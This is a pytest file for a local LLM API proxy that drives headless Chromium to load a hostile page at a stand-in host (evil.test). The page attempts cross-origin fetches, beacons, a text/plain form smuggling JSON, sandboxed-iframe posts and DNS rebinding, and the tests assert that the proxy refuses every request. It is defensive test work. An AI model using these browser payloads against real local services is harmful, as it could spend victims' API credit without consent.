"""A web page of a stranger, in a real browser, tries every way to spend money through the proxy on the same machine.

Needs Chromium; `.ci/full` installs it where it can.
"""

import contextlib
import json
import shutil
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.support.proxy_process import CHAT, proxy_process
from tests.support.upstream import DEADLINE, Answer, Received, Upstream, json_answer

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: what a browser may do was not shown"),
]

ASKED = json.dumps({"model": "gpt-5-mini", "messages": [{"role": "user", "content": "hi"}]})

SCRIPT = """
const body = %(body)s, told = {};
const post = (url, options) => fetch(url, {method: "POST", body, ...options}).then(
  answer => `${answer.type} ${answer.status}`, () => "blocked");
async function attack(url) {
  told.cors = await post(url, {headers: {"content-type": "application/json"}});
  told.authorized = await post(url, {headers: {authorization: "Bearer x"}, credentials: "include"});
  told.simple = await post(url, {headers: {"content-type": "text/plain"}});
  told.opaque = await post(url, {mode: "no-cors", headers: {"content-type": "text/plain"}});
  told.unreferred = await post(url, {mode: "no-cors", referrerPolicy: "no-referrer"});
  told.beacon = `sent ${navigator.sendBeacon(url, new Blob([body], {type: "text/plain"}))}`;
  const frame = document.createElement("iframe");
  frame.name = `target${document.forms.length}`;
  document.body.append(frame);
  const form = document.body.appendChild(document.createElement("form"));
  Object.assign(form, {method: "POST", enctype: "text/plain", action: url, target: frame.name});
  const field = form.appendChild(document.createElement("input"));
  Object.assign(field, {name: body.slice(0, -1) + ',"x":"', value: '"}'});
  told.form = await new Promise(done => { frame.onload = () => done("answered"); form.submit(); });
  const sandboxed = document.createElement("iframe");
  sandboxed.sandbox = "allow-scripts";
  sandboxed.srcdoc = `<script>fetch(${JSON.stringify(url)}, {method: "POST", mode: "no-cors",
    body: ${JSON.stringify(body)}}).finally(() => parent.postMessage("done", "*"))<\\/script>`;
  told.sandboxed = await new Promise(done => { onmessage = () => done("sent"); document.body.append(sandboxed); });
}
const report = () => fetch("%(report)s", {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
"""


class Site:
    """A stranger's web site: its pages, and what the scripts on them report."""

    def __init__(self, server: Upstream) -> None:
        self.pages: dict[str, str] = {}
        self._server = server
        server.replies(self._reply)

    def page(self, path: str, body: str, end: str) -> None:
        """A page that runs a script and reports what became of it."""
        script = SCRIPT % {"body": json.dumps(ASKED), "report": f"http://evil.test:{self._server.port}/report"}
        self.pages[path] = f"<!doctype html><body><script>{script}{body}{end}</script>"

    def reports(self) -> list[dict[str, str]]:
        """What scripts have told."""
        return [json.loads(request.body) for request in self._server.received if request.path == "/report"]

    def _reply(self, request: Received) -> Answer:
        page = self.pages.get(request.path)
        if page is None:
            return json_answer({}, connection="close")
        return Answer(200, {"content-type": "text/html", "connection": "close"}, (page.encode(),))


@pytest.fixture
def site() -> Iterator[Site]:
    """The stranger's server."""
    server = Upstream()
    yield Site(server)
    server.close()


@contextlib.contextmanager
def browser(profile: Path, url: str) -> Iterator[None]:
    """A browser that has opened a page; every `.test` name is this machine for it."""
    assert CHROMIUM is not None
    flags = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking"
    more = "--disable-component-update --disable-sync --disable-extensions --mute-audio --remote-debugging-port=0"
    rules = "--host-resolver-rules=MAP *.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
    command = [CHROMIUM, *flags.split(), *more.split(), rules, f"--user-data-dir={profile}", url]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield
    finally:
        process.terminate()
        process.wait(DEADLINE)


def wait_for_report(site: Site) -> dict[str, str]:
    """What the page told, once it did."""
    deadline = time.monotonic() + 60
    while not site.reports():
        assert time.monotonic() < deadline, "the page never reported"
        time.sleep(0.05)
    return site.reports()[0]


def posts(server: Upstream) -> list[Received]:
    """The requests of a page that would be billed."""
    return [request for request in server.received if request.method == "POST"]


def test_a_page_of_another_origin_cannot_spend(home: Path, tmp_path: Path, upstream: Upstream, site: Site) -> None:
    """Fetches of every kind, a beacon, forms and sandboxed frames: refused, while a server without a guard gets them."""
    control = Upstream()
    control.answers(json_answer({}))
    with proxy_process(home, upstream.port) as proxy:
        attacks = f'attack("http://127.0.0.1:{control.port}/v1/x").then(() => attack("{proxy.url + CHAT}"))'
        site.page("/", attacks, ".then(report)")
        with browser(tmp_path / "profile", f"http://evil.test:{site._server.port}/"):
            told = wait_for_report(site)
        assert proxy.rows("SELECT count(*) FROM requests") == [(0,)]
        assert proxy.health()["in_flight"] == 0
    control.close()

    assert upstream.received == []
    assert told == {
        "cors": "blocked",
        "authorized": "blocked",
        "simple": "blocked",
        "opaque": "opaque 0",
        "unreferred": "opaque 0",
        "beacon": "sent true",
        "form": "answered",
        "sandboxed": "sent",
    }
    # Without a guard the browser itself would have let these through.
    assert len(posts(control)) >= 6
    assert all(json.loads(request.body)["model"] == "gpt-5-mini" for request in posts(control))


def test_a_name_that_was_bound_to_this_machine_afterwards_cannot_spend(
    home: Path, tmp_path: Path, upstream: Upstream, site: Site
) -> None:
    """DNS rebinding: the page's own origin has become the proxy's address; its `Host` gives it away."""
    first = Upstream()
    stranger = Site(first)
    stranger._server = site._server
    wait = f'const here = "{CHAT}"; const tried = () => post(here, {{}}).then(said => {{ told.rebound = said;'
    again = ' return said === "basic 403" || (told.tries = (told.tries || 0) + 1) > 300 ? report()'
    stranger.page("/", wait, again + " : new Promise(next => setTimeout(next, 100)).then(tried); }); tried();")
    with browser(tmp_path / "profile", f"http://rebind.test:{first.port}/"):
        deadline = time.monotonic() + 30
        while not posts(first):
            assert time.monotonic() < deadline, "the page was never opened"
            time.sleep(0.02)
        first.close()
        with proxy_process(home, upstream.port, "--port", str(first.port)) as proxy:
            told = wait_for_report(site)
            assert proxy.rows("SELECT count(*) FROM requests") == [(0,)]

    assert told["rebound"] == "basic 403"
    assert upstream.received == []


def test_a_program_on_this_machine_is_served_by_the_same_proxy(home: Path, upstream: Upstream) -> None:
    """The guard is for pages: what an SDK sends has neither `Origin` nor a foreign `Host`."""
    import urllib.request

    answer: dict[str, Any] = {"choices": [], "usage": {"prompt_tokens": 1, "completion_tokens": 1}}
    upstream.answers(json_answer(answer))
    with proxy_process(home, upstream.port) as proxy:
        with urllib.request.urlopen(proxy.url + CHAT, data=ASKED.encode(), timeout=DEADLINE) as answered:
            assert answered.status == 200
        assert proxy.wait_for("SELECT count(*) FROM requests", 1) == 1
